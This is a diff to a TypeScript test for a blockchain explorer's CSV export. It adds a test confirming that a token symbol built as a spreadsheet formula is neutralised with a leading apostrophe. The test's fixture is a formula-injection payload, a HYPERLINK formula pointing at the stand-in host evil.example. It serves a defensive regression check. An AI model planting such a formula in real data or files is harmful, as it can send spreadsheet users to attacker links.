@@ -3,13 +3,20 @@
  * at a fixed `toBlock` the CSV and NDJSON files equal the paged `/events` answer field for field (and the
  * chain's own logs), with and without filters, in both orders; the CSV is RFC 4180 with the documented
  * header and human columns; the SDK's `exportEvents` streams the same file; bad parameters are a 400
- * problem before any byte of a file.
+ * problem before any byte of a file. Issue 38 item 5: a token whose `symbol()` a spreadsheet would run as
+ * a formula is written with an apostrophe in front, and with it dropped the row still equals `/events`.
  */
 import assert from 'node:assert/strict'
 import { after, before, describe, test } from 'node:test'
+import { encodeFunctionData } from 'viem'
+import { stablecoinAbi } from '../../src/chain/abi/stablecoin-abi.js'
+import { createChainClient } from '../../src/chain/create-chain-client.js'
+import { createTxSender } from '../../src/chain/tx/create-tx-sender.js'
+import { localDeployerKey } from '../../src/config/local-keys.js'
+import { deployStablecoin } from '../../src/devnet/deploy/deploy-stablecoin.js'
 import { ExplorerApiError, ExplorerClient, type Settlement } from '../../src/sdk/index.js'
-import { pageThrough, settlementsOnChain, startTestExplorer, waitForHead, type TestExplorer } from '../helpers/explorer.js'
-import { sendSettlements, startLocalChain, type LocalChain } from '../helpers/local-chain.js'
+import { pageThrough, settlementsOnChain, startTestExplorer, waitFor, waitForHead, type TestExplorer } from '../helpers/explorer.js'
+import { payerAddress, sendSettlements, startLocalChain, type LocalChain } from '../helpers/local-chain.js'
 import { startTraffic, type Traffic } from '../sdk/live-fixture.js'
 
 let chain: LocalChain
@@ -155,5 +162,35 @@ describe('GET /events/export while settlements keep arriving', () => {
       assert.equal(response.headers.get('content-disposition'), null)
       assert.equal((JSON.parse(text) as { param: string }).param, param, JSON.stringify(query))
     }
+  })
+
+  test('a token symbol a spreadsheet would run as a formula gets an apostrophe in front; dropped, the row equals /events', async () => {
+    const symbol = '=HYPERLINK("http://evil.example/?a=1,2","Statement")'
+    // The deployer deploys, mints and relays: the traffic's relayer keeps its nonces to itself.
+    const publicClient = createChainClient({ rpcUrl: chain.rpcUrl, pollingIntervalMs: 50 })
+    const owner = await createTxSender({ publicClient, privateKey: localDeployerKey, chainId: chain.deployment.chainId })
+    const token = await deployStablecoin({ publicClient, sender: owner, name: 'Formula Coin', symbol })
+    const mint = await owner.send({ to: token.address, data: encodeFunctionData({ abi: stablecoinAbi, functionName: 'mint', args: [payerAddress(chain, 0), 10n ** 12n] }), gas: 100_000n })
+    await publicClient.waitForTransactionReceipt({ hash: mint })
+    await sendSettlements({ ...chain, deployment: { ...chain.deployment, tokens: [token], payerKeys: [chain.deployment.payerKeys[0]!], relayerKey: localDeployerKey } }, 2)
+    const q = { token: token.address }
+    const events = await waitFor('the explorer to index both', async () => {
+      const { events } = await pageThrough(explorer.url, q)
+      return events.length === 2 && events
+    })
+    assert.equal(events[0]!.tokenSymbol, symbol)
+
+    const { text } = await exportFile({ ...q, format: 'csv' })
+    assert.equal(text.split(`,"'=HYPERLINK(""http://evil.example/?a=1,2"",""Statement"")",`).length, 3, text)
+    const [header, ...rows] = parseCsv(text)
+    for (const row of rows) {
+      row.forEach((cell, i) => {
+        assert.ok(!/^[=+\-@\t\r]/.test(cell), `${header![i]}: ${cell} starts as a formula`)
+        assert.ok(!cell.startsWith("'") || header![i] === 'tokenSymbol', `an apostrophe in ${header![i]}`)
+      })
+    }
+    // The documented way back: drop one leading apostrophe.
+    const read = rows.map((row) => row.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell)))
+    assert.deepEqual(read.map((row) => settlementOf(header!, row)), events)
   })
 })
